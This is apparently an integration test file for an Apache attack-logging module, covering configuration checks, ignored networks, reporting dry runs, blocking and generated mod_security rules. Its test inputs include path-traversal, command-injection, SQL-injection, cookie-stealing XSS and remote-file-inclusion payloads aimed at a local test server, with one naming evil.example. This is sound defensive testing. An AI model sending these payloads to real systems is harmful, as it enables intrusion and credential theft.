"""A first deployment done by the book, in a real httpd: nothing an admin
does following the README and conf/logwatch.conf takes a site down, floods
the report with the admin's own traffic or loses the day's abuse reports.

Run:  LW_BUILDDIR=/path/to/build LW_SRCDIR=/path/to/src \
      /usr/bin/python3 -m pytest -q test/integration/test_deploy.py
"""
import json
import os
import re
import shutil
import subprocess
import time

import pytest

import lwhttpd

STATUS = """LoadModule authz_host_module %s/mod_authz_host.so
<Location /logwatch-status>
    SetHandler logwatch-status
    Require local
</Location>
""" % lwhttpd.MODDIR

TRAVERSAL = "/home.html?pgi=../../../../../../etc/passwd"


def status_json(h):
    st, raw = h.request("GET /logwatch-status?json HTTP/1.1",
                        [("Host", "localhost")])
    assert st == 200, raw[:300]
    return json.loads(raw.split(b"\r\n\r\n", 1)[1].decode("ascii"))


def counters(h):
    js = status_json(h)
    return js["totals"]


# ---- a bad attack-log directory ----

@pytest.mark.parametrize("bad", ["missing", "notadir"])
def test_bad_log_directory_fails_configtest(httpd_factory, bad):
    """`apachectl -t` refuses a LogWatchLog whose directory is missing or
    is not a directory, as it does for CustomLog, naming the path."""
    h = httpd_factory(start=False)
    if bad == "missing":
        dest = h.path("no-such-dir", "attack.log")
    else:
        with open(h.path("logs", "plainfile"), "w") as f:
            f.write("x\n")
        dest = h.path("logs", "plainfile", "attack.log")
    assert h.configtest().returncode == 0
    h.log = dest
    h.write_conf()
    p = h.configtest()
    out = p.stdout + p.stderr
    assert p.returncode != 0, out
    assert "LW00022" in out and dest in out, out
    assert "Syntax OK" not in out


@pytest.mark.parametrize("mpm", ["event"])
@pytest.mark.parametrize("prog,why", [
    ("/usr/sbin/rotatelogs", "cannot be run (No such file or directory)"),
    ("rotatelogs", "has no path")])
def test_piped_logger_that_cannot_run_fails_configtest(httpd_factory, prog,
                                                       why):
    """"|prog args" is run by httpd without a shell and without a PATH
    search: a wrong or bare program name passed `apachectl -t` and then
    lost every record (AH00104, LW00008 at each start). `apachectl -t`
    now names it; a start without -t still serves."""
    h = httpd_factory(start=False,
                      log="|%s @ROOT@/logs/attack.%%Y%%m%%d 86400" % prog)
    p = h.configtest()
    out = p.stdout + p.stderr
    assert p.returncode != 0, out
    assert re.search(r"LW00022: LogWatchLog \|%s .* cannot be opened: "
                     r"program '?%s'? %s" % (re.escape(prog), re.escape(prog),
                                             re.escape(why)), out), out
    assert "Syntax OK" not in out
    h.log = "|/usr/bin/rotatelogs @ROOT@/logs/attack.%Y%m%d 86400"
    h.write_conf()
    assert h.configtest().returncode == 0
    h.log = "|" + prog
    h.write_conf()
    h.start()
    assert h.get("/") == 200


def test_log_directory_gone_at_reload_keeps_serving(httpd_factory, seed):
    """The directory disappears after `-t` passed (or a restart without
    -t): the graceful restart keeps every site up, the records are counted
    as dropped, and the next restart once the directory is back writes
    them again."""
    h = httpd_factory(start=False, log="@ROOT@/attacklogs/attack.log",
                      extra=STATUS)
    logdir = h.path("attacklogs")
    os.makedirs(logdir)
    h.start()
    log = os.path.join(logdir, "attack.log")
    assert h.get(TRAVERSAL) == 404
    assert h.wait_records(1, path=log)
    shutil.rmtree(logdir)
    h.graceful()
    assert "LW00007" in h.error_text()
    assert h.pid() is not None
    assert h.get("/index.html") == 200
    for host in lwhttpd.SEED_VHOSTS:
        assert h.get("/index.html", host=host) == 200
    before = counters(h)["dropped"]
    assert h.get(TRAVERSAL) == 404
    assert h.get(TRAVERSAL + "&x=1") == 404
    deadline = time.time() + 5
    while counters(h)["dropped"] < before + 2 and time.time() < deadline:
        time.sleep(0.05)
    assert counters(h)["dropped"] >= before + 2
    assert not os.path.exists(log)
    # back: the next restart opens it again
    os.makedirs(logdir)
    h.graceful()
    assert h.get(TRAVERSAL + "&y=2") == 404
    recs = h.wait_records(1, path=log)
    assert [r["uri"] for r in recs] == [TRAVERSAL + "&y=2"]


# ---- a local rules file adds to the default set ----

CANARY = """# a site's own rule
rule 4000000077
  category  probe
  severity  high
  msg       local canary
  target    args
  literal   lwlocalcanary
  pattern   lwlocalcanary
  match     /x?q=lwlocalcanary
  nomatch   /x?q=hello
"""


def local_rules(h):
    path = h.path("conf", "local.rules")
    with open(path, "w") as f:
        f.write(CANARY)
    return path


def installed_sigdir():
    """The default set's directory compiled into the build (the tools'
    --help names it, as the module uses)."""
    p = subprocess.run([os.path.join(lwhttpd.builddir(), "logwatch-scan"),
                        "--help"], capture_output=True, text=True)
    m = re.search(r"(/\S+/mod_logwatch/signatures)", p.stdout + p.stderr)
    assert m, p.stdout + p.stderr
    return m.group(1)


def test_local_rules_add_to_the_base_set(httpd_factory):
    h = httpd_factory(start=False)
    local = local_rules(h)
    # an older configuration naming the base set itself: read once
    h.signatures.append(lwhttpd.default_signatures() + "/")
    h.signatures.append(local)
    h.write_conf()
    p = h.configtest()
    out = p.stdout + p.stderr
    assert p.returncode == 0, out
    m = re.search(r"LW00023: (\d+) signatures: (\d+) from (\S+) "
                  r"\(LogWatchDefaultSignatures\), 1 from (\S+)", out)
    assert m, out
    assert int(m.group(1)) == int(m.group(2)) + 1 and int(m.group(2)) > 50
    assert m.group(4) == local
    h.start()
    assert h.get(TRAVERSAL) == 404
    assert h.get("/x?q=lwlocalcanary") == 404
    recs = h.wait_records(2)
    assert sorted(r["uri"] for r in recs) == sorted(
        [TRAVERSAL, "/x?q=lwlocalcanary"])
    assert "LW00023" in h.error_text()


def test_local_rules_alone_never_replace_the_default(httpd_factory):
    """`LogWatchSignatures local.rules` as the only signature directive:
    the installed default set is loaded too, or, when it is not there,
    `apachectl -t` says so; never one rule in silence."""
    h = httpd_factory(start=False, signatures=[])
    local = local_rules(h)
    h.extra = 'LogWatchSignatures "%s"\n' % local
    h.write_conf()
    p = h.configtest()
    out = p.stdout + p.stderr
    if os.path.isdir(installed_sigdir()):
        assert p.returncode == 0, out
        m = re.search(r"LW00023: (\d+) signatures: \d+ from \S+ "
                      r"\(default set\), 1 from ", out)
        assert m and int(m.group(1)) > 50, out
        h.start()
        assert h.get(TRAVERSAL) == 404
        assert h.wait_records(1)
    else:
        assert p.returncode != 0, out
        assert installed_sigdir() in out and "missing" in out, out
        assert "LogWatchDefaultSignatures" in out


def test_default_signatures_off_in_so_many_words(httpd_factory):
    h = httpd_factory(start=False, signatures=[])
    local = local_rules(h)
    h.extra = 'LogWatchDefaultSignatures Off\nLogWatchSignatures "%s"\n' % local
    h.write_conf()
    p = h.configtest()
    assert p.returncode == 0, p.stderr
    assert "LW00023: 1 signatures: 1 from %s" % local in p.stderr
    h.start()
    assert h.get(TRAVERSAL) == 404
    assert h.get("/x?q=lwlocalcanary") == 404
    recs = h.wait_records(1)
    assert [r["uri"] for r in recs] == ["/x?q=lwlocalcanary"]
    # and the order is checked: Off after a LogWatchSignatures is an error
    h.stop()
    h.extra = ('LogWatchDefaultSignatures "%s"\nLogWatchSignatures "%s"\n'
               'LogWatchDefaultSignatures Off\n'
               % (lwhttpd.default_signatures(), local))
    h.write_conf()
    p = h.configtest()
    assert p.returncode != 0 and "must come before" in p.stderr, p.stderr


def test_scan_local_rules_add_to_the_default(tmp_path):
    scan = os.path.join(lwhttpd.builddir(), "logwatch-scan")
    local = tmp_path / "local.rules"
    local.write_text(CANARY)
    log = tmp_path / "access.log"
    log.write_text(
        '203.0.113.9 - - [06/Dec/2026:10:00:00 +0000] "GET %s HTTP/1.1" '
        '404 10 "-" "x"\n'
        '203.0.113.9 - - [06/Dec/2026:10:00:01 +0000] "GET '
        '/x?q=lwlocalcanary HTTP/1.1" 404 10 "-" "x"\n' % TRAVERSAL)
    shipped = lwhttpd.default_signatures()
    p = subprocess.run([scan, "--default-signatures", shipped,
                        "--signatures", str(local), str(log)],
                       capture_output=True, text=True)
    assert p.returncode == 0, p.stderr
    assert len(p.stdout.splitlines()) == 2, p.stdout
    # the shipped set named twice, however written, is loaded once
    link = tmp_path / "sigs-link"
    link.symlink_to(shipped)
    for again in (shipped, shipped + "/", str(link)):
        p = subprocess.run([scan, "--default-signatures", shipped,
                            "--signatures", again, str(log)],
                           capture_output=True, text=True)
        assert p.returncode == 0, p.stderr
        assert len(p.stdout.splitlines()) == 1, p.stdout
    p = subprocess.run([scan, "--default-signatures", "none",
                        "--signatures", str(local), str(log)],
                       capture_output=True, text=True)
    assert p.returncode == 0 and len(p.stdout.splitlines()) == 1, p.stderr
    # a local file alone: the installed default too, or an error
    env = dict(os.environ)
    env.pop("LOGWATCH_SIGNATURES", None)
    p = subprocess.run([scan, "--signatures", str(local), str(log)],
                       capture_output=True, text=True, env=env)
    if os.path.isdir(installed_sigdir()):
        assert p.returncode == 0 and len(p.stdout.splitlines()) == 2
    else:
        assert p.returncode == 2, p.stdout
        assert "missing" in p.stderr and "--default-signatures" in p.stderr


# ---- logwatch-daily -n is a dry run ----

from test_fleet import daily  # noqa: E402,F401  (the fixture)


def tree(root):
    """Every path under root with its size and modification time."""
    out = {}
    for d, dirs, files in os.walk(root):
        for n in dirs + files:
            p = os.path.join(d, n)
            st = os.lstat(p)
            out[p] = (st.st_size, st.st_mtime_ns)
    return out


def test_daily_dry_run_changes_nothing_then_the_real_run_reports(daily):
    daily.config(SEND_MESSAGES="yes")
    before = tree(daily.root)
    p = daily.run("-n", SEND_MESSAGES="yes")
    assert p.returncode == 0, p.stderr
    # nothing on disk changed but the configuration the test itself wrote
    after = tree(daily.root)
    conf = str(daily.root / "daily.conf")
    before.pop(conf, None)
    after.pop(conf, None)
    assert after == before, sorted(set(after.items()) ^ set(before.items()))
    assert daily.mails() == []
    # what it would do is shown: the report and each message
    assert "174.121.218.75" in p.stdout
    assert re.search(r"would write \S+/abuse/%s/\S+ \(To: "
                     r"abuse@provider\.example\) and send it" % daily.day,
                     p.stderr), p.stderr
    assert "would mail the report" in p.stderr
    # the real run the same day sends every abuse report and alert
    p = daily.run(SEND_MESSAGES="yes")
    assert p.returncode == 0, p.stderr
    assert "already reported" not in p.stdout + p.stderr
    mails = daily.mails()
    abuse = list((daily.outbox / "abuse" / daily.day).iterdir())
    alerts = list((daily.outbox / "alerts" / daily.day).iterdir())
    assert len(abuse) == 1 and alerts
    assert any("abuse@provider.example" in m for _, m in mails)
    assert len(mails) == 1 + len(abuse) + len(alerts)
    # and a second dry run now knows the source was reported today
    p = daily.run("-n", SEND_MESSAGES="yes")
    assert p.returncode == 0, p.stderr
    assert "abuse@provider.example" not in p.stderr


# ---- the admin's own monitoring is no attack ----

MOD_STATUS = """LoadModule status_module %s/mod_status.so
<Location /server-status>
    SetHandler server-status
    Require local
</Location>
""" % lwhttpd.MODDIR


def shipped_conf_server(httpd_factory, extra=""):
    """A server configured as a2enmod does: conf/logwatch.conf included,
    mod_status as Debian ships it, the status page enabled."""
    snippet = os.path.join(lwhttpd.srcdir(), "conf", "logwatch.conf")
    h = httpd_factory(start=False, log="")
    h.extra = ('Define APACHE_LOG_DIR "%s"\n%s%sInclude "%s"\n'
               '<Location /logwatch-status>\n    SetHandler logwatch-status\n'
               '    Require local\n</Location>\n%s'
               % (h.path("logs"), MOD_STATUS, STATUS.split("\n")[0] + "\n",
                  snippet, extra))
    h.write_conf()
    return h


def test_own_monitoring_is_not_recorded(httpd_factory):
    h = shipped_conf_server(httpd_factory,
                            "LogWatchIgnoreNet 198.51.100.0/24\n")
    h.start()
    for _ in range(3):
        assert h.get("/server-status?auto") == 200
        assert h.get("/logwatch-status?json") == 200
        assert h.get("/logwatch-status?metrics") == 200
    # the admin's own scanner (this machine, and a listed network)
    assert h.get(TRAVERSAL) == 404
    assert h.get(TRAVERSAL, xff="198.51.100.20") == 404
    # mod_status fetched by a monitor elsewhere
    h.get("/server-status?auto", xff="192.0.2.10")
    # a real attacker
    assert h.get(TRAVERSAL + "&real=1", xff="203.0.113.7") == 404
    recs = h.wait_records(1)
    time.sleep(0.5)
    recs = h.records()
    assert [(r["client"], r["uri"]) for r in recs] == [
        ("203.0.113.7", TRAVERSAL + "&real=1")], recs


def summarize(*args):
    tool = os.path.join(lwhttpd.builddir(), "logwatch-summarize")
    p = subprocess.run([tool] + list(args), capture_output=True, text=True,
                       timeout=60)
    assert p.returncode == 0, p.stderr
    return p


def attack_record(client, uri, status=200, cat="probe", t="10:00:00"):
    return json.dumps({
        "time": "2026-12-05T%s.000000+00:00" % t, "host": "web1",
        "vhost": "a.example", "port": 80, "client": client, "method": "GET",
        "uri": uri, "protocol": "HTTP/1.1", "status": status, "bytes": 10,
        "duration_us": 5, "request_id": "id-%s-%s" % (client, t),
        "verdict": "served" if status < 300 else "not_found",
        "severity": "high", "score": 4, "categories": [cat],
        "rules": [{"id": 1, "category": cat, "severity": "high",
                   "field": "path", "excerpt": "x", "msg": "m"}]})


@pytest.mark.parametrize("mpm", ["event"])
def test_local_proxy_without_remoteip_is_reported(httpd_factory):
    """Behind a reverse proxy on the same machine (nginx, Varnish, a TLS
    terminator) every request comes from 127.0.0.1, which the shipped
    LogWatchIgnoreNet leaves out: without mod_remoteip nothing at all was
    recorded, in silence. The error log now says why and what to do; a
    local monitor without a forwarding header gives no such warning, and
    with mod_remoteip the attacker's address is recorded."""
    sqli = "/x.php?id=1'or'1'='1"
    for remoteip in (False, True):
        h = shipped_conf_server(httpd_factory)
        text = h.config_text()
        if not remoteip:
            text = text.replace("RemoteIPHeader X-Forwarded-For\n", "")
            text = text.replace("RemoteIPInternalProxy 127.0.0.1\n", "")
        with open(h.conf, "w") as f:
            f.write(text)
        h.start()
        assert h.get(sqli) == 500                  # a local monitor
        time.sleep(0.3)
        assert "LW00110" not in h.error_text()
        assert h.get(sqli, xff="203.0.113.9") == 500
        if remoteip:
            rec = h.wait_for(lambda r: r["uri"] == sqli)
            assert rec and rec["client"] == "203.0.113.9", rec
            assert "LW00110" not in h.error_text()
        else:
            deadline = time.time() + 5
            while "LW00110" not in h.error_text() and time.time() < deadline:
                time.sleep(0.05)
            err = h.error_text()
            assert re.search(r"LW00110: a flagged request from 127\.0\.0\.1"
                             r", in LogWatchIgnoreNet, carries "
                             r"X-Forwarded-For: .*enable mod_remoteip", err), err
            assert not os.path.exists(h.attack_log) or h.records() == []
        h.stop()


def test_summarizer_leaves_ignored_networks_out(tmp_path):
    """What an older module (or another host) recorded from the admin's
    own networks: --ignore-net, or the module's own LogWatchIgnoreNet list
    read from its configuration, leaves it out of every list and of the
    firewall suggestions."""
    lines = []
    for i in range(5):
        lines.append(attack_record("127.0.0.1", "/server-status?auto",
                                   t="10:00:%02d" % i))
        lines.append(attack_record("10.9.8.7", TRAVERSAL, 404, "lfi",
                                   t="11:00:%02d" % i))
        lines.append(attack_record("203.0.113.7", TRAVERSAL, 200, "lfi",
                                   t="12:00:%02d" % i))
    log = tmp_path / "attack.log"
    log.write_text("\n".join(lines) + "\n")
    conf = tmp_path / "logwatch.conf"
    conf.write_text("<IfModule logwatch_module>\n"
                    "\t#LogWatchIgnoreNet 203.0.113.0/24\n"
                    "\tLogWatchIgnoreNet 127.0.0.0/8 ::1\n"
                    "\tLogWatchIgnoreNet 10.0.0.0/8\n</IfModule>\n")

    def check(p, ignored):
        rep = json.loads(p.stdout)
        assert sorted(s["ip"] for s in rep["sources"]) == (
            ["10.9.8.7"] if ignored == 5 else []) + ["203.0.113.7"]
        assert rep["input"]["ignored"] == ignored
        for t in rep["targets"]:
            assert "/server-status?auto" not in json.dumps(t)

    check(summarize("--format", "json", "--ignore-net", "127.0.0.0/8",
                    str(log)), 5)
    check(summarize("--format", "json", "--ignore-net-from", str(conf),
                    str(log)), 10)
    p = summarize("--ignore-net-from", str(conf), "--firewall", "nftables",
                  str(log))
    assert "127.0.0.1" not in p.stdout and "10.9.8.7" not in p.stdout
    assert "203.0.113.7" in p.stdout
    assert "Ignored: 10 records" in p.stdout


# ---- mod_security suggestions never block ordinary traffic ----

MODSEC = "/usr/lib/apache2/modules/mod_security2.so"

# Firefox and Chrome as they send a page request, with their real Accept*
# headers (the ';' of the q-values is in every one of them).
BROWSER_HEADERS = [
    [("User-Agent", "Mozilla/5.0 (X11; Linux x86_64; rv:120.0) "
                    "Gecko/20100101 Firefox/120.0"),
     ("Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,"
                "image/avif,image/webp,*/*;q=0.8"),
     ("Accept-Language", "de,en-US;q=0.7,en;q=0.3"),
     ("Accept-Encoding", "gzip, deflate, br")],
    [("User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) "
                    "AppleWebKit/537.36 (KHTML, like Gecko) "
                    "Chrome/120.0.0.0 Safari/537.36"),
     ("Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,"
                "image/avif,image/webp,image/apng,*/*;q=0.8,"
                "application/signed-exchange;v=b3;q=0.7"),
     ("Accept-Language", "de;q=0.9"),
     ("Accept-Encoding", "gzip, deflate, br"),
     ("Sec-Ch-Ua", '"Chromium";v="120", "Not?A_Brand";v="24"')],
]

ATTACKS = ["/?cmd=;cat%20/etc/passwd",
           "/index.html?page=../../../../etc/passwd",
           "/index.html?id=1%27%20UNION%20SELECT%20password%20FROM%20users--",
           "/index.html?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E",
           "/index.html?file=http://evil.example/shell.txt%3F"]


# What the deployment's mod_security adds to lwhttpd.modsec_httpd's server:
# directory index (the attacks target "/") and request bodies inspected.
MODSEC_CONF = """LoadModule dir_module {m}/mod_dir.so
DirectoryIndex index.html
SecRequestBodyAccess On
""".format(m=lwhttpd.MODDIR)


@pytest.mark.skipif(not os.path.exists(MODSEC),
                    reason="needs libapache2-mod-security2 (scripts/deps.sh)")
def test_modsecurity_suggestions_pass_ordinary_traffic(httpd_factory,
                                                       tmp_path):
    """Attacks that reached the application in a real httpd with the
    module; the summarizer's suggestions, checked against the NASA log,
    loaded into a real mod_security2: they deny the attacks they were made
    for, and not one benign request (the NASA log's, popular User-Agents
    with a browser's Accept* headers, the admin's monitoring)."""
    nasa = lwhttpd.corpus("benign", "nasa_jul95_first10k.log")
    h = httpd_factory(mpm="event")
    for t in ATTACKS:
        assert h.get(t, xff="203.0.113.9") == 200
    h.get("/server-status?auto", xff="203.0.113.9")
    recs = h.wait_records(len(ATTACKS) + 1)
    assert len(recs) >= len(ATTACKS)
    # and a probe of a path ordinary traffic asks for (recorded elsewhere)
    log = tmp_path / "attack.log"
    with open(log, "w") as f:
        f.write("".join(l.decode() + "\n" for l in h.lines()))
        f.write(attack_record("203.0.113.9", "/images/NASA-logosmall.gif",
                              200, "probe") + "\n")
    p = summarize("--modsecurity", "--benign", nasa, "--threshold", "1",
                  str(log))
    text = p.stdout
    # (the text report wraps its notes at 80 columns)
    m = re.search(r"checked\s+against\s+(\d+)\s+benign\s+requests\s+"
                  r"\(--benign\):\s+(\d+)\s+dropped", text)
    assert m and int(m.group(1)) > 9000 and int(m.group(2)) >= 1, text
    section = text.split("mod_security suggestions (review", 1)[1]
    rules = [l for l in section.splitlines()
             if l.lstrip().startswith("SecRule")]
    assert rules, text
    body = "\n".join(rules)
    assert "REQUEST_HEADERS" not in body and "server-status" not in body
    assert "NASA-logosmall" not in body
    assert "[;|`]" not in body
    with lwhttpd.modsec_httpd(tmp_path, rules, MODSEC_CONF) as port:
        def status(target, headers=()):
            return lwhttpd.raw_request(
                port, "GET %s HTTP/1.1" % target,
                [("Host", "localhost")] + list(headers))[0]
        # the attacks they were made for
        for t in ATTACKS:
            assert status(t) == 403, t
        # ordinary traffic: browsers on the attacked paths ...
        for hdrs in BROWSER_HEADERS:
            for t in ("/", "/index.html", "/?cmd=ls", "/index.html?id=5",
                      "/index.html?q=union+station",
                      "/index.html?page=about"):
                assert status(t, hdrs) != 403, (t, hdrs)
        # ... popular User-Agents with those Accept* headers ...
        for ua in lwhttpd.user_agents():
            hdrs = [("User-Agent", ua)] + BROWSER_HEADERS[0][1:]
            assert status("/", hdrs) != 403, ua
            assert status("/index.html", hdrs) != 403, ua
        # ... the NASA log's requests, and the admin's monitoring
        for line in lwhttpd.benign_request_lines(3000, nasa):
            st = lwhttpd.raw_request(port, line, [("Host", "localhost")])[0]
            assert st != 403, line
        assert status("/server-status?auto") != 403


# ---- smaller things ----

@pytest.mark.parametrize("dest", ["sylog:local7", "sylog://127.0.0.1:514",
                                  "file:logs/attack.log", "Syslg:daemon"])
def test_misspelt_log_scheme_is_an_error(httpd_factory, dest):
    h = httpd_factory(start=False, log=dest)
    p = h.configtest()
    assert p.returncode != 0, p.stdout + p.stderr
    assert "looks like a destination scheme" in p.stderr, p.stderr
    assert not os.path.exists(h.path(dest))
    # a file name with a ':' is still possible, said so
    h.log = "./" + dest.replace("/", "_")
    h.write_conf()
    assert h.configtest().returncode == 0


def test_html_report_never_breaks_addresses(tmp_path):
    lines = [attack_record(ip, TRAVERSAL, 404, "lfi", t="10:00:%02d" % i)
             for i, ip in enumerate(["203.0.113.77",
                                     "2001:db8:1234:5678:9abc:def0:1234:5678",
                                     "198.51.100.200"])]
    log = tmp_path / "a.log"
    log.write_text("\n".join(lines) + "\n")
    html = summarize("--format", "html", str(log)).stdout
    style = html.split("<style>", 1)[1].split("</style>", 1)[0]
    assert "break-all" not in style
    assert re.search(r"code\.ip\{[^}]*white-space:nowrap", style), style
    for ip in ("203.0.113.77", "2001:db8:1234:5678:9abc:def0:1234:5678",
               "198.51.100.200"):
        assert "<code class=ip>%s</code>" % ip in html


def test_daily_has_a_man_page():
    page = os.path.join(lwhttpd.srcdir(), "doc", "logwatch-daily.8")
    p = subprocess.run(["groff", "-man", "-ww", "-z", page],
                       capture_output=True, text=True)
    assert p.returncode == 0 and p.stderr == "", p.stderr
    with open(page) as f:
        text = f.read()
    # every option and setting of the script is described
    with open(os.path.join(lwhttpd.srcdir(), "scripts",
                           "logwatch-daily")) as f:
        script = f.read()
    for var in re.findall(r"^([A-Z_]+)=", script, re.M):
        assert var in text, var
    assert "\\-n" in text and "\\-c" in text
    with open(os.path.join(lwhttpd.srcdir(), "conf", "Makefile.inc")) as f:
        assert "doc/logwatch-daily.8" in f.read()


def test_unblock_from_the_status_page(httpd_factory):
    """A blocked source is let go from the status page (POST, the page's
    own access rule), and the page shows it at once."""
    h = httpd_factory(extra=STATUS + "LogWatchThreshold 2 3600\n"
                      "LogWatchBlock On 600\n")
    src = "203.0.113.50"
    for i in range(2):
        h.get(TRAVERSAL + "&n=%d" % i, xff=src)
    deadline = time.time() + 5
    while h.get("/index.html", xff=src) != 403 and time.time() < deadline:
        time.sleep(0.05)
    assert h.get("/index.html", xff=src) == 403
    page = h.request("GET /logwatch-status HTTP/1.1",
                     [("Host", "localhost")])[1].decode("latin-1")
    assert 'action="?unblock=%s"' % src in page

    def post(target, headers=()):
        return h.request("POST %s HTTP/1.1" % target,
                         [("Host", "localhost"), ("Content-Length", "0")]
                         + list(headers))
    # not from where the page may be seen, or from another site's form
    assert post("/logwatch-status?unblock=" + src,
                [("X-Forwarded-For", "192.0.2.1")])[0] == 403
    assert post("/logwatch-status?unblock=" + src,
                [("Sec-Fetch-Site", "cross-site")])[0] == 403
    assert post("/logwatch-status?unblock=" + src,
                [("Origin", "http://evil.example")])[0] == 403
    assert post("/logwatch-status?unblock=not-an-address")[0] == 400
    assert h.get("/index.html", xff=src) == 403
    st, raw = post("/logwatch-status?unblock=" + src)
    assert st == 303, raw[:300]
    assert h.get("/index.html", xff=src) == 200
    js = status_json(h)
    assert js["totals"]["refused"] >= 1
    mine = [s for s in js["sources"]["top"] if s["source"] == src]
    assert len(mine) == 1 and mine[0]["blocked"] is False, js["sources"]
    assert js["sources"]["blocked"] == 0
    assert 'action="?unblock=' not in h.request(
        "GET /logwatch-status HTTP/1.1",
        [("Host", "localhost")])[1].decode("latin-1")
    assert "LW00108" in h.error_text()


# ---- a signature directory missing a word table ----

@pytest.mark.parametrize("mpm", ["event"])
def test_missing_words_file_is_named(httpd_factory):
    """A base set copied without its sqli.words (a partial copy, a
    hand-made LogWatchDefaultSignatures directory): `apachectl -t` names
    the missing word table and the rule that needs it, file and line, not
    only that the rule's own example stopped matching."""
    h = httpd_factory(start=False)
    sigs = h.path("sigs")
    shutil.copytree(lwhttpd.default_signatures(), sigs)
    h.signatures = [sigs]
    h.write_conf()
    assert h.configtest().returncode == 0
    os.unlink(os.path.join(sigs, "sqli.words"))
    p = h.configtest()
    out = p.stdout + p.stderr
    assert p.returncode != 0, out
    m = re.search(re.escape(sigs) + r"/(\S+\.rules):(\d+): rule \d+ uses "
                  r"detector sqli but no sqli\.words was loaded", out)
    assert m, out
    with open(os.path.join(sigs, m.group(1))) as f:
        line = f.read().split("\n")[int(m.group(2)) - 1]
    assert line.split() == ["detector", "sqli"], line


def test_daily_without_sendmail_says_so_in_the_dry_run(daily):
    """Debian 12 installs no mail transport: the dry run the README asks
    for already says that nothing can be mailed and what to install; the
    real run keeps the report and the outbox and fails with the same
    words, not with the shell's bare 'not found'."""
    missing = str(daily.root / "bin" / "no-sendmail")
    p = daily.run("-n", SENDMAIL=missing)
    assert p.returncode == 1, p.stderr
    assert "no %s: nothing can be mailed" % missing in p.stderr, p.stderr
    assert "mail transport agent" in p.stderr
    assert "not found" not in p.stderr
    assert "174.121.218.75" in p.stdout          # the report is still shown
    p = daily.run(SENDMAIL=missing)
    assert p.returncode == 1
    assert "no %s: nothing can be mailed" % missing in p.stderr, p.stderr
    assert "not found" not in p.stderr
    report = daily.outbox / "reports" / ("%s.txt" % daily.day)
    assert "174.121.218.75" in report.read_text()
    assert list((daily.outbox / "abuse" / daily.day).iterdir())


# ---- LogWatchLog syslog with no syslog daemon ----

def devlog_listening():
    import stat
    try:
        return stat.S_ISSOCK(os.stat("/dev/log").st_mode)
    except OSError:
        return False


@pytest.mark.parametrize("mpm", ["event"])
def test_syslog_destination_without_a_daemon_is_reported(httpd_factory):
    """syslog(3) drops records in silence when nothing listens on /dev/log
    (rsyslog stopped, a container without one): `apachectl -t` and the
    error log at a start say so; the site keeps serving either way. Where
    a daemon listens there is no such warning."""
    h = httpd_factory(start=False, log="syslog:local7")
    for _ in range(3):      # another test may start a private rsyslogd
        before = devlog_listening()
        p = h.configtest()
        h.start()
        assert h.get("/x.php?id=1'or'1'='1") == 500 and h.get("/") == 200
        text = h.error_text()
        h.stop()
        if devlog_listening() == before:
            break
        os.unlink(h.error_log)
    out = p.stdout + p.stderr
    assert p.returncode == 0 and "Syntax OK" in out, out
    warned = ("LW00028: LogWatchLog syslog:local7: nothing listens on "
              "/dev/log")
    assert (warned in out) == (not before), out
    assert (warned in text) == (not before), text


# ---- a reload with a broken signature file, as Debian's reload does it ----

@pytest.mark.parametrize("mpm", ["event"])
def test_failed_reload_keeps_the_old_set_serving(httpd_factory):
    """`systemctl reload apache2` runs Debian's `apache2ctl graceful`,
    which tests the configuration first. With a mistake in a site rule
    file it stops with FILE:LINE: reason and the running server keeps
    serving with the rules it had (the README's promise)."""
    h = httpd_factory(start=False)
    local = h.path("conf", "local.rules")
    good = ("rule 4000000001\n category sqli\n severity high\n msg canary\n"
            " target args\n literal lwcanary\n pattern lwcanary\n"
            " match /x?q=lwcanary\n nomatch /x?q=abc\n")
    with open(local, "w") as f:
        f.write(good)
    h.signatures.append(local)
    h.write_conf()
    # apache2ctl reads APACHE_CONFDIR/apache2.conf and envvars
    shutil.copy(h.conf, h.path("apache2.conf"))
    with open(h.path("envvars"), "w") as f:
        f.write("export APACHE_RUN_DIR=%s/run APACHE_LOCK_DIR=%s/run "
                "APACHE_LOG_DIR=%s/logs APACHE_PID_FILE=%s/run/httpd.pid\n"
                % ((h.root,) * 4))
    env = dict(h.env, APACHE_CONFDIR=h.root)   # with ASan preloaded if set
    h.start()
    pid = h.pid()
    with open(local, "a") as f:
        f.write("rule 4000000002\n category sqlx\n")
    p = subprocess.run(["apache2ctl", "graceful"], env=env,
                       capture_output=True, text=True)
    out = p.stdout + p.stderr
    assert p.returncode != 0, out
    assert "%s:11: unknown category 'sqlx'" % local in out, out
    assert h.pid() == pid
    assert h.get("/") == 200
    assert h.get("/x?q=lwcanary") == 404
    assert h.wait_for(lambda r: r["uri"] == "/x?q=lwcanary")
    with open(local, "w") as f:      # so that stopping can read it
        f.write(good)
